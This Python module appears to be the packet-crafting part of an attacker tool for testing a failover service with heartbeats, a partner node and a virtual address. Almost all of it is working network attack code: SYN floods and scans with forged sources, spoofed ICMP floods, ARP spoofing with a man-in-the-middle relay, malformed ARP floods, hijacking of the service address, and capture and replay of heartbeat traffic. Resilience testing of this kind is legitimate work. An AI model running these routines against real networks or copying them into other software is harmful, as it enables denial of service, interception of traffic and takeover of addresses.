"""The attacks of attacker.py that are made of packets: those made by hand and those captured."""
import contextlib
import ctypes
import random
import re
import socket
import struct
import subprocess
import sys
import threading
import time

from attacker_connections import HIGHEST_PORT, Connections


def checksum(packet):
    """Of the internet, of an even number of bytes."""
    total = sum(struct.unpack(f"!{len(packet) // 2}H", packet))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def internet_packet(protocol, source, to, behind):
    """The kernel adds length and checksum."""
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, protocol, 0, socket.inet_aton(source),
                       socket.inet_aton(to)) + behind


def syn_packet(source, source_port, to, port, number):
    """A connection request that is never followed up."""
    def segment(total):
        return struct.pack("!HHIIBBHHH", source_port, port, number * 2654435761 & 0xffffffff, 0, 5 << 4, 2, 1024, total, 0)
    covered = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)
    return internet_packet(socket.IPPROTO_TCP, source, to, segment(checksum(covered + segment(0))))


def echo_packet(source, to, kind, number):
    """As long as the agent's pings, which have their number in the order of the machine's bytes."""
    def message(total):
        return struct.pack("!BBH", kind, 0, total) + struct.pack("=HH", number, 0) + bytes(40)
    return internet_packet(socket.IPPROTO_ICMP, source, to, message(checksum(message(0))))


def arp_frame(to, own, operation, sender, target, theirs=bytes(6)):
    """From the hardware address `own`, which it says is that of `sender`."""
    return struct.pack("!6s6sHHHBBH6s4s6s4s", to, own, 0x806, 1, 0x800, 6, 4, operation, own, socket.inet_aton(sender),
                       theirs, socket.inet_aton(target))


def behind_internet_header(frame, protocol, source):
    """What an Ethernet frame holds behind its IPv4 header; nothing for another protocol or sender."""
    if len(frame) < 34 or frame[23] != protocol or frame[26:30] != socket.inet_aton(source):
        return b""
    return frame[14 + (frame[14] & 15) * 4:]


def packet_socket(interface, protocol=0):
    opened = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(protocol))
    opened.bind((interface, protocol))
    return opened


def captured(pid, interface, seconds):
    """The frames that pass an interface of the process' network, as a tap on the cable sees them."""
    enter = ctypes.CDLL(None, use_errno=True).setns
    with open("/proc/self/ns/net", "rb") as own, open(f"/proc/{pid}/ns/net", "rb") as theirs:
        enter(theirs.fileno(), 0)
        tap = packet_socket(interface, 3)  # ETH_P_ALL
        enter(own.fileno(), 0)
    end = time.monotonic() + seconds
    tap.settimeout(0.1)
    while time.monotonic() < end:
        with contextlib.suppress(TimeoutError):
            yield tap.recv(2048), tap.getsockname()[4]


class Attacker(Connections):
    # Packets made by hand.

    def raw_sender(self):
        opened = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

        def send(packet):
            with contextlib.suppress(OSError):
                opened.sendto(packet, (self.at, 0))
            self.did(tries=1)
        return send

    def request(self, send, source, source_port, port):
        send(syn_packet(source, source_port, self.at, port, self.tally["tries"]))

    def syn_flood(self):
        send = self.raw_sender()
        dice = random.Random(self.orders["seed"])
        while not self.stopped:
            nobody = f"198.51.100.{128 + dice.randrange(120)}"
            for _ in range(20):
                self.request(send, nobody, 1024 + dice.randrange(60000), self.port)
            time.sleep(0.02)

    def scan_by_syn(self):
        send = self.raw_sender()
        for port in range(1, HIGHEST_PORT + 1):
            if self.stopped:
                break
            self.request(send, self.orders["own"], 41000 + port % 20000, port)
            if port % 100 == 0:
                time.sleep(0.01)

    def request_blindly(self):
        """The answers go to the partner, by the node's other interface."""
        send = self.raw_sender()
        dice = random.Random(self.orders["seed"])
        while not self.stopped:
            self.request(send, self.orders["partner"], 1024 + dice.randrange(60000), self.port)
            time.sleep(0.1)

    def flood_icmp(self, kind):
        """In a millisecond more than the ten pings of a probe, each of which is answered after two."""
        sources = {"gateway": [self.orders["gateway"]],
                   "partner": [self.orders["partnerAt"], self.orders["virtual"]]}[self.orders["detail"]]
        send = self.raw_sender()
        number = 0  # of one agent in 65536
        while not self.stopped:
            for _ in range(20):
                for source in sources:
                    number = (number + 1) & 0xffff
                    send(echo_packet(source, self.at, kind, number))
            time.sleep(0.001)

    def answer_for_partner(self):
        send = self.raw_sender()
        while not self.stopped:
            send(echo_packet(self.orders["partnerAt"], self.at, 0, int(self.payload)))
            time.sleep(0.01)

    # ARP: an answer that was not asked for leads an address to this host's interface.

    def arp_answer(self, network, victim, address):
        """@return what sends it, on which socket"""
        interface = self.orders["interfaces"][network]
        asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        in_time = self.until(5)
        found = None
        while not found:
            if not in_time():
                raise OSError(f"no host answers for {victim}")
            asking.sendto(b"", (victim, 9))  # makes the kernel ask for the address
            time.sleep(0.02)
            with open("/proc/self/net/arp", encoding="ascii") as cache:
                found = re.search(rf"^{re.escape(victim)} +0x1 +0x[2-9a-f] +(\S+).* {interface}$", cache.read(), re.M)
        theirs = bytes.fromhex(found[1].replace(":", ""))
        sender = packet_socket(interface)
        own = sender.getsockname()[4]
        return sender, arp_frame(theirs, own, 2, address, victim, theirs)

    @contextlib.contextmanager
    def spoofing(self, network, victim, address):
        """The victim takes this host for the address; claimed twenty times a second."""
        sender, answer = self.arp_answer(network, self.orders[victim], self.orders[address])
        ended = threading.Event()

        def claim():
            while not ended.wait(0.05):
                sender.send(answer)
                self.did(tries=1)

        thread = threading.Thread(target=claim)
        thread.start()
        try:
            yield
        finally:
            ended.set()
            thread.join()

    def send_arp(self, source, at_once=20, spoilt=lambda frame: frame):
        """Requests for the service address, to everybody on its network; from that address they are announcements."""
        sender = packet_socket(self.orders["interfaces"]["service"])
        frame = arp_frame(b"\xff" * 6, sender.getsockname()[4], 1, source, self.orders["virtual"])
        while not self.stopped:
            for _ in range(at_once):
                sender.send(spoilt(frame))
            self.did(tries=at_once)
            time.sleep(0.001)

    def send_malformed(self):
        dice = random.Random(self.orders["seed"])

        def spoilt(frame):
            """Cut short, or with another type, length or operation in it."""
            changed = bytearray(frame)
            changed[14 + dice.randrange(8)] ^= 128 + dice.randrange(128)
            return dice.choice((frame[:14 + dice.randrange(28)], changed))
        self.send_arp(self.orders["virtual"], spoilt=spoilt)

    def answer_probes(self):
        """Whoever asks whether the service address is free hears that this host has it."""
        sender = packet_socket(self.orders["interfaces"]["service"], 0x806)
        own = sender.getsockname()[4]
        sender.settimeout(0.1)
        while not self.stopped:
            with contextlib.suppress(TimeoutError):
                asked = sender.recv(64)
                if asked[28:32] == bytes(4) and asked[38:42] == socket.inet_aton(self.orders["virtual"]):
                    theirs = asked[6:12]
                    sender.send(arp_frame(theirs, own, 2, self.orders["virtual"], "0.0.0.0", theirs))
                    self.did(tries=1)

    def remove_address(self):
        """As root of the target; tries: how often it was there."""
        command = ["nsenter", "-t", str(self.orders["capturePid"]), "-n", "ip", "address", "delete",
                   self.orders["virtual"] + "/32", "dev", self.orders["interfaces"]["service"]]
        in_time = self.until(10)
        while in_time():
            if subprocess.run(command, stderr=subprocess.DEVNULL).returncode == 0:
                self.did(tries=1)
            time.sleep(0.01)

    def until_stopped(self):
        while not self.stopped:
            time.sleep(0.02)

    def spoof(self, network, victim, address):
        with self.spoofing(network, victim, address):
            self.until_stopped()

    def relay(self):
        with self.spoofing("communication", "target", "partner"):
            self.spoof("communication", "partner", "target")

    def spoof_and_send(self):
        with self.spoofing("communication", "target", "partner"):
            self.send_once(self.orders["partner"])
            self.until_stopped()

    # What is captured first.

    def capture(self, protocol, wanted):
        """What `wanted` makes of the first packet of the captured node that it knows; the orders may
        tell it: what can be captured of a tunnel shows neither heartbeats nor pings."""
        for frame, _ in [] if self.payload else captured(
                self.orders["capturePid"], self.orders["interfaces"]["communication"], 15):
            self.payload = wanted(behind_internet_header(frame, protocol, self.orders["captured"]))
            if self.payload:
                break
        if not self.payload:
            raise OSError(f"nothing of {self.orders['captured']} was captured")

    def replay(self):
        def heartbeat(segment):
            text = segment[(segment[12] >> 4) * 4:] if len(segment) >= 20 else b""
            return text if text.startswith(b"/process/") else b""
        self.capture(socket.IPPROTO_TCP, heartbeat)
        self.send_once()

    def answer_pings(self):
        """A heartbeat makes a node ping; so does every pass of a standby's receiver."""
        self.capture(socket.IPPROTO_ICMP, lambda message: str(
            int.from_bytes(message[4:6], sys.byteorder)).encode() if len(message) >= 8 and message[0] == 8 else b"")
        self.answer_for_partner()

    def replay_recorded(self):
        """Whatever has reached the target in a few seconds: heartbeats, answers to pings, packets of the tunnel."""
        interface = self.orders["interfaces"]["communication"]
        frames = [bytearray(frame) for frame, own in captured(self.orders["capturePid"], interface, 3)
                  if frame[:6] == own and frame[12:14] == b"\x08\x00"]
        if not frames:
            raise OSError("there is nothing to replay")
        sender = packet_socket(interface)
        for frame in frames:
            # The sender's hardware address is another one: the bridge goes on knowing where it is.
            frame[11] = (frame[11] + 64) & 0xff
        while not self.stopped:
            for frame in frames:
                sender.send(frame)
                self.did(tries=1)
            time.sleep(0.05)
